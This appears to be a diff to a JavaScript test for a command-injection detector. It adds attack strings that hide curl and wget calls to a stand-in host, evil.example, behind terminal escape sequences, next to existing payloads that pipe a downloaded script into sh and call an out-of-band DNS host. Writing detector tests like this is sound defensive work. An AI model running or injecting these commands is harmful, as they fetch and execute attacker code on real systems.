@@ -38,6 +38,8 @@ test('detects commands after separators, substitutions and evasions', () => {
     'who^ami & ver',
     'x & nslookup abc.oast.example &',
     'x; curl evil.example/x.sh | sh',
+    'x\\n\\033[2Acurl https://evil.example/x.sh',
+    'x\n\u001b[1;31mwget http://evil.example/a',
   ];
   for (const a of attacks) assert.ok(matchAll(rules, a).length > 0, `missed ${a}`);
 });
